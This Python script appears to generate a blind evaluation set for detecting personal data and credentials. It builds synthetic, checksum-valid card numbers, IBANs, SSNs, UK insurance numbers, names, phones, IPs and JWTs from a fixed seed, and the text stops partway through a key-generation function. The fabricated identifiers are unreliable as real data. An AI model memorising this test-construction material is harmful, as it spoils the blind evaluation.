#!/usr/bin/env python3
"""gen.py -- writes set.txt, the blind PII / credential evaluation set "pii-c20".

Python 3 standard library only. One random.Random(20611) drives every value.
Each template below is hand-written and used exactly once.
Run:  python3 gen.py      (writes set.txt next to this file)
"""
import base64, json, os, re, sys, unicodedata, urllib.parse, random

R = random.Random(20611)
HERE = os.path.dirname(os.path.abspath(__file__))
OUT = os.path.join(HERE, 'set.txt')

DIG = '0123456789'
UP = 'ABCDEFGHIJKLMNOPQRSTUVWXYZ'
LO = UP.lower()
AN = UP + LO + DIG
HEX = '0123456789abcdef'
B64 = AN + '+/'
B64U = AN + '-_'


def rs(chars, n):
    return ''.join(R.choice(chars) for _ in range(n))


def rd(n):
    return rs(DIG, n)


def rd1(n):
    return R.choice('123456789') + rd(n - 1)


def pick(seq):
    return R.choice(seq)


# ---------------------------------------------------------------- checksums
def luhn_ok(s):
    tot = 0
    for i, ch in enumerate(reversed(s)):
        d = int(ch)
        if i % 2 == 1:
            d *= 2
            if d > 9:
                d -= 9
        tot += d
    return tot % 10 == 0


def luhn_digit(partial):
    for d in DIG:
        if luhn_ok(partial + d):
            return d


CARD_BRANDS = [
    # name, prefixes, lengths
    ('visa', ['4'], [13, 16, 19]),
    ('mc', ['51', '52', '53', '54', '55'] + [str(x) for x in range(2221, 2721)], [16]),
    ('amex', ['34', '37'], [15]),
    ('discover', ['6011', '65'] + [str(x) for x in range(644, 650)], [16, 17, 18, 19]),
    ('jcb', [str(x) for x in range(3528, 3590)], [16, 17, 18, 19]),
    ('diners', ['300', '301', '302', '303', '304', '305', '36', '38', '39'], [14, 15, 16, 17, 18, 19]),
    ('unionpay', ['62'], [16, 17, 18, 19]),
    ('maestro', ['50', '56', '57', '58', '63', '67', '68', '69'], [12, 13, 14, 15, 16, 17, 18, 19]),
    ('mir', ['2200', '2201', '2202', '2203', '2204'], [16, 17, 18, 19]),
    ('troy', ['9792'], [16]),
]
TEST_CARDS = {'4242424242424242', '4111111111111111', '5555555555554444'}


def card_brand(num):
    for name, pres, lens in CARD_BRANDS:
        if len(num) in lens and any(num.startswith(p) for p in pres):
            return name
    return None


def card_valid(num):
    return num.isdigit() and luhn_ok(num) and card_brand(num) is not None


def gen_card(brand='visa'):
    table = {'visa': (['4'], 16), 'visa13': (['4'], 13),
             'mc': (['51', '52', '53', '54', '55', '2221', '2293', '2720'], 16),
             'amex': (['34', '37'], 15), 'discover': (['6011', '65'], 16),
             'jcb': (['3528', '3540', '3566', '3589'], 16), 'diners': (['36', '305'], 14),
             'unionpay': (['622', '625', '621'], 16), 'unionpay19': (['621', '623'], 19),
             'mir': (['2200', '2202', '2204'], 16), 'troy': (['9792'], 16),
             'maestro': (['6759', '5018', '6304'], 16)}
    pres, ln = table[brand]
    while True:
        p = pick(pres)
        body = p + rd(ln - 1 - len(p))
        num = body + luhn_digit(body)
        if num not in TEST_CARDS and len(set(num[1:])) > 3:
            return num


def fmt_card(num, style='sp'):
    if style == 'plain':
        return num
    sep = {'sp': ' ', 'dash': '-', 'dot': '.'}[style]
    if len(num) == 15:
        g = [4, 6, 5]
    elif len(num) == 14:
        g = [4, 6, 4]
    elif len(num) == 19:
        g = [4, 4, 4, 4, 3]
    elif len(num) == 13:
        g = [4, 3, 3, 3]
    else:
        g = [4, 4, 4, 4]
    out, i = [], 0
    for k in g:
        out.append(num[i:i + k])
        i += k
    return sep.join(out)


def iban_num(s):
    return ''.join(str(int(c, 36)) for c in s)


def iban_ok(iban):
    iban = iban.replace(' ', '')
    if len(iban) < 5 or IBAN_LEN.get(iban[:2]) != len(iban):
        return False
    return int(iban_num(iban[4:] + iban[:4])) % 97 == 1


IBAN_SPEC = {
    'AT': '16n', 'BE': 'BE', 'CH': '17n', 'CZ': '20n', 'DE': '18n', 'DK': '14n', 'EE': '16n',
    'ES': '20n', 'FI': '14n', 'FR': 'FR', 'GB': '4a14n', 'HU': '24n', 'IE': '4a14n',
    'LT': '16n', 'LU': '16n', 'LV': '4a13n', 'NL': '4a10n', 'NO': '11n', 'PL': '24n', 'PT': '21n',
    'RO': '4a16n', 'SE': '20n', 'SK': '20n', 'TR': '5n1z16n', 'UA': '25n', 'AE': '19n',
    'SA': '20n', 'PK': '4a16n', 'EG': '25n', 'IR': '22n', 'HR': '17n', 'BG': '4a14n',
    'GR': '23n', 'QA': '4a21n', 'KW': '4a22n', 'JO': '4a22n', 'IL': '19n', 'IT': '1a22n',
}
IBAN_LEN = {'AT': 20, 'BE': 16, 'CH': 21, 'CZ': 24, 'DE': 22, 'DK': 18, 'EE': 20, 'ES': 24,
            'FI': 18, 'FR': 27, 'GB': 22, 'HU': 28, 'IE': 22, 'LT': 20, 'LU': 20, 'LV': 21,
            'NL': 18, 'NO': 15, 'PL': 28, 'PT': 25, 'RO': 24, 'SE': 24, 'SK': 24, 'TR': 26,
            'UA': 29, 'AE': 23, 'SA': 24, 'PK': 24, 'EG': 29, 'IR': 26, 'HR': 21, 'BG': 22,
            'GR': 27, 'QA': 29, 'KW': 30, 'JO': 30, 'IL': 23, 'IT': 27}
BANK_LETTERS = {'GB': ['BARC', 'LOYD', 'HBUK', 'MIDL', 'NAIA', 'MONZ', 'SRLG'],
                'IE': ['AIBK', 'BOFI', 'IPBS'], 'NL': ['ABNA', 'INGB', 'RABO', 'TRIO', 'KNAB', 'SNSB', 'BUNQ'],
                'PK': ['MEZN', 'HABB', 'UNIL', 'SCBL', 'ALFH'], 'RO': ['BTRL', 'RNCB', 'BRDE'],
                'LV': ['HABA', 'PARX', 'UNLA'], 'BG': ['UNCR', 'FINV', 'STSA'], 'QA': ['QNBA', 'DOHB'],
                'KW': ['NBOK', 'CBKU'], 'JO': ['CBJO', 'ARAB'], 'IT': ['X', 'K', 'Q']}
SAMPLE_IBANS = ['DE89370400440532013000', 'GB29NWBK60161331926819', 'GB82WEST12345698765432',
                'NL91ABNA0417164300', 'BE68539007547034', 'FR1420041010050500013M02606']


def gen_iban(cc):
    spec = IBAN_SPEC[cc]
    if spec == 'BE':
        first = rd(10)
        k = int(first) % 97 or 97
        bban = first + '%02d' % k
    elif spec == 'FR':
        b, g, c = rd1(5), rd(5), rd(11)
        key = 97 - ((89 * int(b) + 15 * int(g) + 3 * int(c)) % 97)
        bban = b + g + c + '%02d' % key
    else:
        bban = ''
        for n, t in re.findall(r'(\d+)([anz])', spec):
            n = int(n)
            if t == 'a':
                bban += pick(BANK_LETTERS[cc]) if n == 4 or cc == 'IT' else rs(UP, n)
            elif t == 'z':
                bban += '0' * n
            else:
                bban += rd(n)
    chk = 98 - int(iban_num(bban + cc + '00')) % 97
    iban = cc + '%02d' % chk + bban
    assert iban_ok(iban), iban
    return iban


def fmt_iban(iban, style='p'):
    if style == 'plain':
        return iban
    return ' '.join(iban[i:i + 4] for i in range(0, len(iban), 4))


def ssn_ok(s):
    d = re.sub(r'\D', '', s)
    if len(d) != 9:
        return False
    a, g, n = d[:3], d[3:5], d[5:]
    if a in ('000', '666') or a[0] == '9' or g == '00' or n == '0000':
        return False
    return d not in ('078051120', '219099999', '123456789') and not d.startswith('98765432')


def gen_ssn():
    while True:
        a = R.randint(1, 899)
        if a == 666:
            continue
        s = '%03d%02d%04d' % (a, R.randint(1, 99), R.randint(1, 9999))
        if ssn_ok(s):
            return s


NINO_BAD1 = set('DFIQUV')
NINO_BAD2 = set('DFIOQUV')
NINO_BADP = {'BG', 'GB', 'KN', 'NK', 'NT', 'TN', 'ZZ'}
NINO_L1 = [c for c in UP if c not in NINO_BAD1]
NINO_L2 = [c for c in UP if c not in NINO_BAD2]


def nino_ok(s):
    s = s.replace(' ', '').upper()
    if not re.fullmatch(r'[A-Z]{2}\d{6}[A-Z]', s):
        return False
    return (s[0] not in NINO_BAD1 and s[1] not in NINO_BAD2 and s[:2] not in NINO_BADP
            and s[8] in 'ABCD')


def gen_nino():
    while True:
        p = pick(NINO_L1) + pick(NINO_L2)
        if p in NINO_BADP:
            continue
        s = p + rd(6) + pick('ABCD')
        if nino_ok(s) and s[2:8] != '123456':
            return s


def fmt_nino(s, style='sp'):
    if style == 'plain':
        return s
    return '%s %s %s %s %s' % (s[:2], s[2:4], s[4:6], s[6:8], s[8])


# ---------------------------------------------------------------- names
def _p(s):
    return [tuple(x.split('=')) if '=' in x else (x, None) for x in s.split('|')]


NAMES = {
    'de': (_p('Jonas|Lea|Lukas|Anna|Felix|Sophie|Maximilian|Hannah|Jürgen|Sabine|Uwe|Birgit'),
           _p('Müller|Schmidt|Schneider|Fischer|Weber|Meyer|Wagner|Becker|Hoffmann|Schäfer|Koch|Richter')),
    'fr': (_p('Camille|Lucas|Chloé|Hugo|Léa|Mathieu|Amélie|Théo|Nathalie|François'),
           _p('Martin|Bernard|Dubois|Thomas|Robert|Richard|Petit|Durand|Leroy|Moreau|Lefèvre|Girard')),
    'nl': (_p('Daan|Sanne|Bram|Lotte|Joost|Femke|Pieter|Anouk'),
           _p('de Vries|Jansen|van Dijk|Bakker|Visser|Smit|Meijer|de Boer|Mulder|Bos')),
    'pl': (_p('Jakub|Zofia|Kacper|Julia|Mateusz|Małgorzata|Piotr|Agnieszka|Krzysztof'),
           _p('Nowak|Kowalski|Wiśniewski|Wójcik|Kowalczyk|Kamiński|Lewandowski|Zieliński')),
    'cs': (_p('Jan|Tereza|Petr|Eliška|Tomáš|Lucie|Martin|Kateřina'),
           _p('Novák|Svoboda|Novotný|Dvořák|Černý|Procházka|Kučera|Veselý')),
    'sk': (_p('Marek|Zuzana|Peter|Lucia|Ján|Martina|Michal'),
           _p('Horváth|Kováč|Varga|Tóth|Baláž|Szabó|Molnár|Hudák')),
    'hu': (_p('Bence|Réka|Levente|Eszter|Gábor|Zsófia|Balázs'),
           _p('Nagy|Kovács|Tóth|Szabó|Horváth|Varga|Kiss|Molnár')),
    'fi': (_p('Mikko|Aino|Juha|Emilia|Ville|Sanna|Antti'),
           _p('Korhonen|Virtanen|Mäkinen|Nieminen|Mäkelä|Hämäläinen|Laine|Heikkinen')),
    'sv': (_p('Erik|Astrid|Lars|Maja|Oskar|Elsa|Johan'),
           _p('Andersson|Johansson|Karlsson|Nilsson|Eriksson|Larsson|Olsson|Lindqvist')),
    'no': (_p('Ole|Ingrid|Magnus|Nora|Henrik|Silje|Sindre'),
           _p('Hansen|Johansen|Olsen|Larsen|Andersen|Pedersen|Nilsen|Bakke')),
    'da': (_p('Mads|Freja|Rasmus|Ida|Søren|Mette|Frederik'),
           _p('Jensen|Nielsen|Hansen|Pedersen|Andersen|Christensen|Larsen|Sørensen')),
    'tr': (_p('Mehmet|Ayşe|Mustafa|Zeynep|Emre|Elif|Burak'),
           _p('Yılmaz|Kaya|Demir|Şahin|Çelik|Yıldız|Öztürk|Aydın')),
    'uk': (_p('Олександр=oleksandr|Оксана=oksana|Андрій=andrii|Ірина=iryna|Дмитро=dmytro|Наталія=nataliia'),
           _p('Шевченко=shevchenko|Коваленко=kovalenko|Бондаренко=bondarenko|Ткаченко=tkachenko|Мельник=melnyk|Кравчук=kravchuk')),
    'ru': (_p('Алексей=aleksei|Мария=maria|Дмитрий=dmitry|Екатерина=ekaterina|Сергей=sergey|Ольга=olga'),
           _p('Иванов=ivanov|Смирнов=smirnov|Кузнецов=kuznetsov|Попов=popov|Соколов=sokolov|Лебедев=lebedev')),
    'ar': (_p('محمد=mohammed|فاطمة=fatima|أحمد=ahmed|نورة=noura|خالد=khalid|ليلى=layla'),
           _p('العتيبي=alotaibi|الحربي=alharbi|القحطاني=alqahtani|الشمري=alshammari|المنصوري=almansoori|حسن=hassan')),
    'fa': (_p('علی=ali|زهرا=zahra|رضا=reza|مریم=maryam|حسین=hossein|نگار=negar'),
           _p('محمدی=mohammadi|حسینی=hosseini|احمدی=ahmadi|رضایی=rezaei|کریمی=karimi|موسوی=mousavi')),
    'ur': (_p('عمران=imran|عائشہ=ayesha|بلال=bilal|سعدیہ=sadia|عثمان=usman|حنا=hina'),
           _p('خان=khan|چوہدری=chaudhry|قریشی=qureshi|بٹ=butt|ملک=malik|شیخ=sheikh')),
    'hi': (_p('राहुल=rahul|प्रिया=priya|अमित=amit|नेहा=neha|विकास=vikas|पूजा=pooja'),
           _p('शर्मा=sharma|वर्मा=verma|गुप्ता=gupta|सिंह=singh|यादव=yadav|मिश्रा=mishra')),
    'bn': (_p('তানভীর=tanvir|নুসরাত=nusrat|আরিফ=arif|সুমাইয়া=sumaiya|রাকিব=rakib|ফারহানা=farhana'),
           _p('রহমান=rahman|হোসেন=hossain|ইসলাম=islam|আহমেদ=ahmed|চৌধুরী=chowdhury|সরকার=sarkar')),
    'id': (_p('Budi|Siti|Agus|Dewi|Rizky|Putri|Andi'),
           _p('Santoso|Wijaya|Saputra|Pratama|Kusuma|Hidayat|Nugroho|Setiawan')),
    'ms': (_p('Ahmad|Nurul|Hafiz|Aisyah|Faiz|Syafiqah|Azlan'),
           _p('Abdullah|Ismail|Rahman|Hassan|Yusof|Ibrahim|Othman')),
    'vi': (_p('Minh|Lan|Hùng|Thảo|Tuấn|Hương|Dũng'),
           _p('Nguyễn|Trần|Lê|Phạm|Hoàng|Huỳnh|Vũ|Đặng')),
    'th': (_p('สมชาย=somchai|สุภาพร=supaporn|ธนพล=thanaphon|กมลชนก=kamonchanok|วีระ=weera|นภัสสร=napatsorn'),
           _p('ใจดี=jaidee|ศรีสุข=srisuk|วงศ์สวัสดิ์=wongsawat|บุญมา=boonma|แสงทอง=saengthong|พรหมมา=promma')),
    'ko': (_p('민준=minjun|서연=seoyeon|지훈=jihoon|하은=haeun|도윤=doyoon|수빈=subin'),
           _p('김=kim|이=lee|박=park|최=choi|정=jung|강=kang')),
    'ja': (_p('翔太=shota|美咲=misaki|健一=kenichi|陽菜=hina|大輔=daisuke|彩=aya'),
           _p('佐藤=sato|鈴木=suzuki|高橋=takahashi|田中=tanaka|伊藤=ito|渡辺=watanabe')),
    'zh': (_p('伟=wei|芳=fang|磊=lei|静=jing|浩然=haoran|婷=ting'),
           _p('王=wang|李=li|张=zhang|刘=liu|陈=chen|杨=yang')),
    'en': (_p('James|Emily|Michael|Sarah|David|Jessica|Chris|Olivia|Tyler|Brianna'),
           _p('Smith|Johnson|Williams|Brown|Jones|Garcia|Miller|Davis|Wilson|Martinez')),
    'gb': (_p('Oliver|Amelia|Harry|Isla|George|Sophie|Callum|Niamh'),
           _p('Taylor|Evans|Thomas|Roberts|Walker|Wright|Hughes|Patel')),
    'es': (_p('Lucía|Javier|Marta|Sergio|Carmen|Pablo'),
           _p('García|Fernández|López|Martínez|Sánchez|Romero')),
}
LASTFIRST = {'hu', 'vi', 'ko', 'ja', 'zh'}
NOSPACE = {'ko', 'ja', 'zh'}


def romanize(s):
    s = s.replace('ł', 'l').replace('Ł', 'L').replace('ø', 'o').replace('æ', 'ae').replace('ß', 'ss')
    s = s.replace('ı', 'i').replace('đ', 'd').replace('Đ', 'D')
    s = unicodedata.normalize('NFKD', s)
    s = ''.join(c for c in s if not unicodedata.combining(c))
    return re.sub(r'[^a-z]', '', s.lower())


def gen_person(loc):
    firsts, lasts = NAMES[loc]
    f, fr = pick(firsts)
    l, lr = pick(lasts)
    fr = fr or romanize(f)
    lr = lr or romanize(l)
    if loc in NOSPACE:
        disp = l + f
    elif loc in LASTFIRST:
        disp = l + ' ' + f
    else:
        disp = f + ' ' + l
    return {'disp': disp, 'first': f, 'last': l, 'fr': fr, 'lr': lr}


DOMAINS = {
    'de': ['web.de', 'gmx.de', 't-online.de', 'posteo.de', 'gmx.net'], 'fr': ['orange.fr', 'free.fr', 'laposte.net', 'sfr.fr'],
    'nl': ['ziggo.nl', 'kpnmail.nl', 'hotmail.nl', 'xs4all.nl'], 'pl': ['wp.pl', 'onet.pl', 'interia.pl', 'o2.pl'],
    'cs': ['seznam.cz', 'email.cz', 'centrum.cz'], 'sk': ['azet.sk', 'zoznam.sk', 'centrum.sk'],
    'hu': ['freemail.hu', 'citromail.hu', 'gmail.com'], 'fi': ['luukku.com', 'elisanet.fi', 'gmail.com'],
    'sv': ['telia.com', 'bredband.net', 'hotmail.se'], 'no': ['online.no', 'hotmail.no', 'gmail.com'],
    'da': ['mail.dk', 'jubii.dk', 'hotmail.dk'], 'tr': ['hotmail.com.tr', 'yandex.com.tr', 'gmail.com'],
    'uk': ['ukr.net', 'i.ua', 'gmail.com'], 'ru': ['mail.ru', 'yandex.ru', 'rambler.ru', 'bk.ru'],
    'ar': ['gmail.com', 'hotmail.com', 'outlook.sa'], 'fa': ['gmail.com', 'yahoo.com', 'chmail.ir'],
    'ur': ['gmail.com', 'yahoo.com', 'hotmail.com'], 'hi': ['rediffmail.com', 'yahoo.co.in', 'gmail.com'],
    'bn': ['gmail.com', 'yahoo.com'], 'id': ['yahoo.co.id', 'gmail.com'], 'ms': ['yahoo.com.my', 'gmail.com'],
    'vi': ['yahoo.com.vn', 'gmail.com'], 'th': ['hotmail.co.th', 'gmail.com'], 'ko': ['naver.com', 'daum.net', 'hanmail.net'],
    'ja': ['yahoo.co.jp', 'docomo.ne.jp', 'gmail.com', 'icloud.com'], 'zh': ['qq.com', '163.com', '126.com', 'sina.com'],
    'en': ['gmail.com', 'outlook.com', 'yahoo.com', 'icloud.com', 'proton.me', 'aol.com'],
    'gb': ['btinternet.com', 'gmail.com', 'outlook.com', 'sky.com'], 'es': ['gmail.com', 'hotmail.es'],
}


def gen_email(loc='en', person=None, domain=None, style=None):
    p = person or gen_person(loc)
    f, l = p['fr'], p['lr']
    style = style or pick(['f.l', 'fl', 'f_l', 'fl99', 'f.l99', 'fi.l', 'l.f', 'f99'])
    local = {'f.l': f + '.' + l, 'fl': f + l, 'f_l': f + '_' + l, 'fl99': f + l + rd(2),
             'f.l99': f + '.' + l + str(R.randint(60, 99)), 'fi.l': f[0] + '.' + l, 'l.f': l + '.' + f,
             'f99': f + rd(R.choice([2, 3, 4]))}[style]
    return local + '@' + (domain or pick(DOMAINS[loc]))


# ---------------------------------------------------------------- phones
# cc, trunk, prefixes, nsn length, national grouping
PHONES = {
    'us': ('1', '', None, 10, None), 'gb': ('44', '0', ['71', '73', '74', '75', '77', '78', '79'], 10, [4, 6]),
    'de': ('49', '0', ['151', '152', '157', '160', '170', '171', '172', '176', '177', '179'], 11, [3, 8]),
    'de_l': ('49', '0', ['30', '40', '89', '221', '69', '711'], 10, [3, 7]),
    'fr': ('33', '0', ['6', '7'], 9, [1, 2, 2, 2, 2]), 'fr_l': ('33', '0', ['1', '4', '5'], 9, [1, 2, 2, 2, 2]),
    'nl': ('31', '0', ['6'], 9, [1, 8]), 'be': ('32', '0', ['47', '48', '49'], 9, [3, 2, 2, 2]),
    'pl': ('48', '', ['50', '51', '53', '60', '66', '69', '72', '78', '79', '88'], 9, [3, 3, 3]),
    'cz': ('420', '', ['60', '72', '73', '77', '79'], 9, [3, 3, 3]),
    'sk': ('421', '0', ['90', '91', '94'], 9, [3, 3, 3]), 'hu': ('36', '06', ['20', '30', '70'], 9, [2, 3, 4]),
    'fi': ('358', '0', ['40', '44', '50'], 9, [2, 3, 4]), 'se': ('46', '0', ['70', '72', '73', '76'], 9, [2, 3, 2, 2]),
    'no': ('47', '', ['4', '9'], 8, [3, 2, 3]), 'dk': ('45', '', ['2', '3', '4', '5'], 8, [2, 2, 2, 2]),
    'tr': ('90', '0', ['532', '533', '535', '542', '505', '555', '544'], 10, [3, 3, 2, 2]),
    'ua': ('380', '0', ['50', '63', '66', '67', '68', '73', '93', '95', '96', '97', '98', '99'], 9, [2, 3, 2, 2]),
    'ru': ('7', '8', ['903', '905', '915', '916', '925', '926', '962', '977', '985'], 10, [3, 3, 2, 2]),
    'ae': ('971', '0', ['50', '52', '54', '55', '56', '58'], 9, [2, 3, 4]),
    'sa': ('966', '0', ['50', '53', '54', '55', '56', '59'], 9, [2, 3, 4]),
    'eg': ('20', '0', ['10', '11', '12', '15'], 10, [3, 3, 4]),
    'ir': ('98', '0', ['912', '919', '935', '936', '901', '910'], 10, [3, 3, 4]),
    'pk': ('92', '0', ['300', '301', '321', '333', '345', '312'], 10, [3, 7]),
    'in': ('91', '', ['98', '97', '99', '88', '70', '63', '81'], 10, [5, 5]),
    'bd': ('880', '0', ['13', '15', '16', '17', '18', '19'], 10, [4, 6]),
    'id': ('62', '0', ['812', '813', '821', '852', '857', '878'], 11, [3, 4, 4]),
    'my': ('60', '0', ['12', '13', '16', '17', '19'], 9, [2, 3, 4]),
    'vn': ('84', '0', ['90', '91', '98', '97', '86', '32', '70', '77'], 9, [3, 3, 3]),
    'th': ('66', '0', ['81', '86', '89', '91', '92', '95', '61', '62'], 9, [2, 3, 4]),
    'kr': ('82', '0', ['10'], 10, [2, 4, 4]), 'jp': ('81', '0', ['90', '80', '70'], 10, [2, 4, 4]),
    'jp_l': ('81', '0', ['3', '6'], 9, [1, 4, 4]),
    'cn': ('86', '', ['138', '139', '150', '158', '186', '177', '135'], 11, [3, 4, 4]),
    'es': ('34', '', ['6'], 9, [3, 3, 3]), 'it': ('39', '', ['33', '34', '32', '38'], 10, [3, 3, 4]),
    'at': ('43', '0', ['664', '660', '676', '699'], 10, [3, 7]), 'ch': ('41', '0', ['76', '77', '78', '79'], 9, [2, 3, 2, 2]),
    'ie': ('353', '0', ['83', '85', '86', '87'], 9, [2, 3, 4]), 'pt': ('351', '', ['91', '92', '93', '96'], 9, [3, 3, 3]),
}


def group(s, g, sep=' '):
    out, i = [], 0
    for k in g:
        out.append(s[i:i + k])
        i += k
    if i < len(s):
        out[-1] += s[i:]
    return sep.join(out)


def gen_phone(cc='us', style='i'):
    ccode, trunk, pres, ln, g = PHONES[cc]
    if cc == 'us':
        while True:
            npa = str(R.randint(2, 9)) + rd(2)
            nxx = str(R.randint(2, 9)) + rd(2)
            if npa[1:] != '11' and nxx[1:] != '11' and nxx != '555' and npa[1] != '9' and npa not in ('800', '888', '877', '866', '855', '844', '833', '900'):
                break
        line = rd(4)
        if style == 'n':
            return '(%s) %s-%s' % (npa, nxx, line)
        if style == 'dash':
            return '%s-%s-%s' % (npa, nxx, line)
        if style == 'dot':
            return '%s.%s.%s' % (npa, nxx, line)
        if style == 'e164':
            return '+1' + npa + nxx + line
        return '+1 %s-%s-%s' % (npa, nxx, line) if R.random() < 0.5 else '+1 (%s) %s-%s' % (npa, nxx, line)
    p = pick(pres)
    nsn = p + str(R.randint(2, 9)) + rd(ln - len(p) - 1)
    if cc.endswith('_l'):
        g = [len(p), ln - len(p)]
    if style == 'n':
        return trunk + (' ' if trunk == '06' else '') + group(nsn, g)
    if style == 'nd':
        return trunk + group(nsn, g, '-')
    if style == 'np':
        return trunk + nsn
    if style == 'e164':
        return '+' + ccode + nsn
    if style == '00':
        return '00' + ccode + ' ' + group(nsn, g)
    if style == 'i0' and trunk == '0':
        return '+' + ccode + ' (0)' + group(nsn, g)
    if style == 'id':
        return '+' + ccode + '-' + group(nsn, g, '-')
    return '+' + ccode + ' ' + group(nsn, g)


# ---------------------------------------------------------------- IPs
def gen_ip4(kind='pub'):
    if kind == 'priv':
        t = pick(['10', '172', '192'])
        if t == '10':
            return '10.%d.%d.%d' % (R.randint(0, 255), R.randint(0, 255), R.randint(2, 254))
        if t == '172':
            return '172.%d.%d.%d' % (R.randint(16, 31), R.randint(0, 255), R.randint(2, 254))
        return '192.168.%d.%d' % (R.randint(0, 255), R.randint(2, 254))
    first = pick([5, 31, 37, 46, 62, 77, 78, 79, 80, 81, 82, 83, 84, 85, 86, 87, 88, 89, 91, 93, 94, 95, 109, 112,
                  151, 176, 178, 185, 188, 193, 194, 195, 212, 213, 217, 24, 45, 50, 67, 68, 71, 73, 74, 98, 99,
                  103, 106, 110, 113, 114, 116, 117, 118, 119, 121, 122, 124, 125, 139, 171, 175, 180, 182, 202])
    return '%d.%d.%d.%d' % (first, R.randint(0, 255), R.randint(0, 255), R.randint(2, 254))


def gen_ip6():
    pre = pick(['2a02', '2a01', '2a00', '2001:16b8', '2003', '2600', '2605', '2406', '2409', '240e', '2a0d', '2c0f'])
    n = 8 - pre.count(':') - 1
    parts = ['%x' % R.randint(0, 0xffff) for _ in range(n)]
    if R.random() < 0.5:
        k = R.randint(1, 3)
        return pre + ':' + ':'.join(parts[:k]) + '::' + ':'.join(parts[-2:])
    return pre + ':' + ':'.join(parts)


# ---------------------------------------------------------------- dates
MONTHS = {
    'en': 'January February March April May June July August September October November December'.split(),
    'de': 'Januar Februar März April Mai Juni Juli August September Oktober November Dezember'.split(),
    'fr': 'janvier février mars avril mai juin juillet août septembre octobre novembre décembre'.split(),
    'nl': 'januari februari maart april mei juni juli augustus september oktober november december'.split(),
    'id': 'Januari Februari Maret April Mei Juni Juli Agustus September Oktober November Desember'.split(),
    'ms': 'Januari Februari Mac April Mei Jun Julai Ogos September Oktober November Disember'.split(),
    'tr': 'Ocak Şubat Mart Nisan Mayıs Haziran Temmuz Ağustos Eylül Ekim Kasım Aralık'.split(),
    'th': 'ม.ค. ก.พ. มี.ค. เม.ย. พ.ค. มิ.ย. ก.ค. ส.ค. ก.ย. ต.ค. พ.ย. ธ.ค.'.split(),
    'sv': 'januari februari mars april maj juni juli augusti september oktober november december'.split(),
    'pl': 'stycznia lutego marca kwietnia maja czerwca lipca sierpnia września października listopada grudnia'.split(),
    'ru': 'января февраля марта апреля мая июня июля августа сентября октября ноября декабря'.split(),
    'uk': 'січня лютого березня квітня травня червня липня серпня вересня жовтня листопада грудня'.split(),
    'hu': 'január február március április május június július augusztus szeptember október november december'.split(),
    'cs': 'ledna února března dubna května června července srpna září října listopadu prosince'.split(),
    'fi': 'tammikuuta helmikuuta maaliskuuta huhtikuuta toukokuuta kesäkuuta heinäkuuta elokuuta syyskuuta lokakuuta marraskuuta joulukuuta'.split(),
    'vi': None,
}
NATIVE_DIGITS = {'ar': '٠١٢٣٤٥٦٧٨٩', 'fa': '۰۱۲۳۴۵۶۷۸۹', 'hi': '०१२३४५६७८९', 'bn': '০১২৩৪৫৬৭৮৯', 'th': '๐๑๒๓๔๕๖๗๘๙',
                 'fw': '０１２３４５６７８９'}


def to_digits(s, script):
    t = NATIVE_DIGITS[script]
    return ''.join(t[int(c)] if c.isdigit() and c in DIG else c for c in s)


def gen_date(lo=1941, hi=2007):
    y = R.randint(lo, hi)
    m = R.randint(1, 12)
    d = R.randint(1, 28)
    return y, m, d


def fmt_date(ymd, style):
    y, m, d = ymd
    if style in ('de', 'pl', 'ru', 'tr', 'uk', 'cs_n', 'no', 'da', 'sk', 'de_n'):
        return '%02d.%02d.%d' % (d, m, y)
    if style in ('fi', 'cs'):
        return '%d.%d.%d' % (d, m, y)
    if style in ('fr', 'gb', 'vi', 'ar', 'es', 'in'):
        return '%02d/%02d/%d' % (d, m, y)
    if style in ('nl', 'id_n'):
        return '%02d-%02d-%d' % (d, m, y)
    if style == 'us':
        return '%02d/%02d/%d' % (m, d, y)
    if style == 'us_s':
        return '%d/%d/%02d' % (m, d, y % 100)
    if style in ('iso', 'sv', 'lt'):
        return '%d-%02d-%02d' % (y, m, d)
    if style == 'ymd8':
        return '%d%02d%02d' % (y, m, d)
    if style == 'hu':
        return '%d. %02d. %02d.' % (y, m, d)
    if style in ('ja', 'zh'):
        return '%d年%d月%d日' % (y, m, d)
    if style == 'ko':
        return '%d년 %d월 %d일' % (y, m, d)
    if style == 'ko_d':
        return '%d.%02d.%02d' % (y, m, d)
    if style == 'cn_s':
        return '%d/%d/%d' % (y, m, d)
    if style == 'en_l':
        return '%s %d, %d' % (MONTHS['en'][m - 1], d, y)
    if style == 'gb_l':
        return '%d %s %d' % (d, MONTHS['en'][m - 1], y)
    if style == 'en_s':
        return '%02d-%s-%d' % (d, MONTHS['en'][m - 1][:3].upper(), y)
    if style == 'de_l':
        return '%d. %s %d' % (d, MONTHS['de'][m - 1], y)
    if style == 'hu_l':
        return '%d. %s %d.' % (y, MONTHS['hu'][m - 1], d)
    if style in ('fr_l', 'nl_l', 'id_l', 'ms_l', 'tr_l', 'sv_l', 'pl_l', 'ru_l', 'uk_l', 'cs_l', 'fi_l'):
        loc = style[:2]
        return '%d %s %d' % (d, MONTHS[loc][m - 1], y) if loc != 'fi' else '%d. %s %d' % (d, MONTHS[loc][m - 1], y)
    if style == 'th':
        return '%d %s %d' % (d, MONTHS['th'][m - 1], y + 543)
    if style == 'th_n':
        return to_digits('%d/%02d/%d' % (d, m, y + 543), 'th')
    if style == 'ar_n':
        return to_digits('%02d/%02d/%d' % (d, m, y), 'ar')
    if style == 'fa':  # Solar Hijri date, Persian digits
        return to_digits('%d/%02d/%02d' % (y - 621, m, d), 'fa')
    if style == 'fa_l':
        return '%d/%02d/%02d' % (y - 621, m, d)
    if style == 'hi_n':
        return to_digits('%02d/%02d/%d' % (d, m, y), 'hi')
    if style == 'bn_n':
        return to_digits('%02d/%02d/%d' % (d, m, y), 'bn')
    if style == 'vi_l':
        return 'ngày %d tháng %d năm %d' % (d, m, y)
    raise ValueError(style)


# ---------------------------------------------------------------- secrets
def b64u(b):
    return base64.urlsafe_b64encode(b).decode().rstrip('=')


def rbytes(n):
    return bytes(R.randrange(256) for _ in range(n))


def gen_jwt(claims=None):
    hdr = {'alg': pick(['HS256', 'RS256', 'ES256']), 'typ': 'JWT'}
    now = R.randint(1780000000, 1795000000)
    body = claims or {'sub': rd(8), 'iat': now, 'exp': now + pick([900, 3600, 86400])}
    if 'iat' not in body:
        body['iat'] = now
    siglen = {'HS256': 32, 'RS256': 256, 'ES256': 64}[hdr['alg']]
    return (b64u(json.dumps(hdr, separators=(',', ':')).encode()) + '.' +
            b64u(json.dumps(body, separators=(',', ':'), ensure_ascii=False).encode()) + '.' + b64u(rbytes(siglen)))


def gen_pem(kind='RSA', lines=None, sep='\n'):
